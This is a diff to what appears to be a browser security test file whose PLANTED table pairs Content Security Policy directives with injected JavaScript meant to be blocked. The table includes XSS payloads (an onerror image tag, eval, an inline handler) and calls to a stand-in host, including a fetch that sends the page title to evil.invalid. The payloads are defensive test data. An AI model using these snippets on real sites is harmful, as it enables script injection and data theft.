@@ -20,7 +20,10 @@ PLANTED = {
     "a foreign script": ("require-trusted-types-for", "append('script', {src: 'https://evil.invalid/x.js'})"),
     "markup as text": ("require-trusted-types-for", "document.body.innerHTML = '<img src=x onerror=pwned=1>'"),
     "evaluated text": ("require-trusted-types-for", "eval('window.pwned = 1')"),
-    "a handler": ("require-trusted-types-for", "document.body.setAttribute('onclick', 'pwned = 1'); document.body.click()"),
+    "a handler": (
+        "require-trusted-types-for",
+        "document.body.setAttribute('onclick', 'pwned = 1'); document.body.click()",
+    ),
     "a policy of its own": ("trusted-types", "trustedTypes.createPolicy('mine', {createHTML: (s) => s})"),
     "a call": ("connect-src", "fetch('https://evil.invalid/?' + document.title).catch(() => {})"),
     "a socket": ("connect-src", "new WebSocket('wss://evil.invalid/')"),
